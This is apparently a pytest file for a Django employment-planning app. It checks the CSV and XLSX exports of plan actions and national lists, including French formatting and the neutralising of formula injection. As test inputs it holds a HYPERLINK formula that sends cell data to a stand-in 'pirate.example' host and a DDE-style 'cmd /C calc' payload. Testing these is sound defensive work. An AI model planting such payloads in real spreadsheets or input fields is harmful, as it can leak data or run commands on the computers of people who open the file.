"""CSV and XLSX exports of a plan's actions and of the national lists: content, French Excel habits,
and formula-injection safety (titles are typed by users)."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from emploi_territoires.plans.exports import plan_actions_sheet
from tests.clock import paris
from tests.factories import nevers, saint_etienne
from tests.plans.test_reporting_helpers import declare_need, haut_nivernais_plan

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://pirate.example/?x="&A1;"Cliquez ici")'


@pytest.fixture
def scenario(db, time_machine):
    # Mid-November 2026: the mentoring cohort (May–November) is under way and not late yet.
    time_machine.move_to(paris(2026, 11, 16))
    return haut_nivernais_plan()


def _csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def test_plan_actions_csv(client, scenario):
    client.force_login(scenario.apec.contact)
    response = client.get(reverse("plans:plan_export", args=[scenario.plan.pk, "csv"]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="plan-{scenario.plan.pk}-plan-daction-emploi-2026-haut-nivernais-actions.csv"'
    )
    header, *rows = _csv_rows(response.content)
    assert header[:8] == [
        "Intitulé",
        "Type d'action",
        "État",
        "En retard",
        "Partenaire pilote",
        "Contact",
        "Début",
        "Fin",
    ]
    assert [row[0] for row in rows] == [
        "Job dating des métiers de l'industrie à Clamecy",
        "Cohorte de mentorat des jeunes diplômés",
        "Recensement des besoins des entreprises du Haut Nivernais",
    ]
    mentoring = rows[1]
    assert mentoring[2:8] == ["En cours", "Non", "Préfecture de la Nièvre", "Paul Lefèvre", "01/05/2026", "30/11/2026"]
    assert mentoring[8] == "12000"
    needs = rows[2]
    assert needs[10] == "Campagne de besoins : Besoins de recrutement 2026 — Nièvre"
    assert "Organisations invitées : 1" in needs[11] and "Taux de réponse : 0 %" in needs[11]


def test_plan_actions_xlsx_has_real_dates_and_numbers(client, scenario):
    client.force_login(scenario.town.contact)
    response = client.get(reverse("plans:plan_export", args=[scenario.plan.pk, "xlsx"]))
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.title == "Actions du plan"
    assert sheet["A1"].value == "Intitulé" and sheet["A1"].font.bold
    assert sheet["G3"].value.date() == datetime.date(2026, 5, 1) and sheet["G3"].number_format == "DD/MM/YYYY"
    assert sheet["I3"].value == 12000
    assert sheet.max_row == 4


def test_formula_injection_is_neutralised_in_csv_and_xlsx(client, scenario):
    scenario.needs.title = FORMULA
    scenario.needs.description = "@SUM(1+1)*cmd|' /C calc'!A0"
    scenario.needs.save(update_fields=["title", "description"])
    scenario.town.organisation.name = "+33 Commune de Clamecy"
    scenario.town.organisation.save(update_fields=["name"])
    client.force_login(scenario.town.contact)
    *_, needs = _csv_rows(client.get(reverse("plans:plan_export", args=[scenario.plan.pk, "csv"])).content)
    assert needs[0] == "'" + FORMULA
    assert needs[4] == "'+33 Commune de Clamecy"
    assert needs[12] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    sheet = load_workbook(
        io.BytesIO(client.get(reverse("plans:plan_export", args=[scenario.plan.pk, "xlsx"])).content)
    ).active
    cell = sheet["A4"]
    assert cell.value == "'" + FORMULA and cell.data_type == "s"  # text, never a formula


def test_plan_export_unknown_format_is_404(client, scenario):
    client.force_login(scenario.apec.contact)
    assert client.get(reverse("plans:plan_export", args=[scenario.plan.pk, "ods"])).status_code == 404


def test_a_plan_without_actions_exports_its_headers_only(scenario):
    scenario.plan.actions.all().delete()
    sheet = plan_actions_sheet(scenario.plan)
    assert sheet.rows == [] and sheet.headers[0] == "Intitulé"


def test_national_exports_list_plans_and_gaps(client, staff, scenario):
    scenario.plan.title = "-1+1 plan"  # typed by a partner: neutralised
    scenario.plan.save(update_fields=["title"])
    declare_need(nevers(), count=3)
    client.force_login(staff)
    header, row = _csv_rows(client.get(reverse("plans:national_export", args=["plans", "csv"])).content)
    assert header == [
        "Plan",
        "Territoire",
        "Périmètre",
        "Région",
        "Programmes",
        "Début",
        "Fin",
        "Partenaires",
        "Actions prévues",
        "Actions en cours",
        "Actions réalisées",
        "Actions annulées",
        "Actions en retard",
    ]
    assert row[0] == "'-1+1 plan"
    assert row[1:4] == ["CC Haut Nivernais - Val d'Yonne", "Intercommunalité", "Bourgogne-Franche-Comté"]
    assert row[4] == "Petites villes de demain, France services"
    assert row[7] == "Apec Bourgogne-Franche-Comté, Commune de Clamecy, Préfecture de la Nièvre"
    assert row[8:12] == ["1", "1", "1", "0"]

    response = client.get(reverse("plans:national_export", args=["territoires-sans-action", "xlsx"]), {"region": "27"})
    assert response.status_code == 200
    assert 'filename="territoires-sans-action-27-' in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.title == "Territoires sans action"
    values = [cell.value for cell in sheet[2]]
    assert values[:3] == ["CA de Nevers", "Intercommunalité", "245804406"]
    assert values[6:10] == [1, 3, 1, 1]

    saint_etienne()  # the région Auvergne-Rhône-Alpes exists, with no need declared
    empty = client.get(reverse("plans:national_export", args=["territoires-sans-action", "csv"]), {"region": "84"})
    assert len(_csv_rows(empty.content)) == 1  # headers only: no gap in Auvergne-Rhône-Alpes


def test_an_action_past_its_end_is_late_the_next_morning(client, scenario, time_machine):
    # The mentoring cohort ends on 30 November 2026; on 1 December it is late, whatever day the suite runs.
    time_machine.move_to(paris(2026, 12, 1, 8, 0))
    client.force_login(scenario.apec.contact)
    _header, *rows = _csv_rows(client.get(reverse("plans:plan_export", args=[scenario.plan.pk, "csv"])).content)
    assert rows[1][:4] == ["Cohorte de mentorat des jeunes diplômés", "Cohorte de mentorat", "En cours", "Oui"]
